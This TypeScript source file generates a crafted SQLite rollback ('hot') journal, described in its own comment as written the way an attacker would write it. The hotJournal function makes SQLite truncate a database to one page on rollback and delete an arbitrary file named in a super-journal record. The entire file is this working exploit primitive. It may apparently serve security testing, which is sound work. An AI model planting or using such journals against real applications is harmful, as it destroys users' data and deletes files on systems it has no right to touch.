/** A rollback journal of SQLite as an attacker would write it. */

const magic = Buffer.from('d9d505f920a163d7', 'hex');
const sectorBytes = 512;
const pageBytes = 4096;

/** The number of the page that contains the bytes which SQLite locks; it marks the name of another file. */
const lockPage = 0x4000_0000 / pageBytes + 1;

const number = (value: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};

/**
 * Returns a journal whose rollback cuts its database to one page. As the journal of a transaction over several databases
 * it names another file, which is deleted if it does not name the journal in turn.
 */
export function hotJournal(fileToDelete: string): Buffer {
  const name = Buffer.from(fileToDelete);
  const [records, nonce, pages] = [0, 0, 1];
  const header = Buffer.concat([magic, ...[records, nonce, pages, sectorBytes, pageBytes].map(number)], sectorBytes);
  const checksum = name.reduce((sum, byte) => sum + byte, 0);
  return Buffer.concat([header, number(lockPage), name, number(name.length), number(checksum), magic]);
}
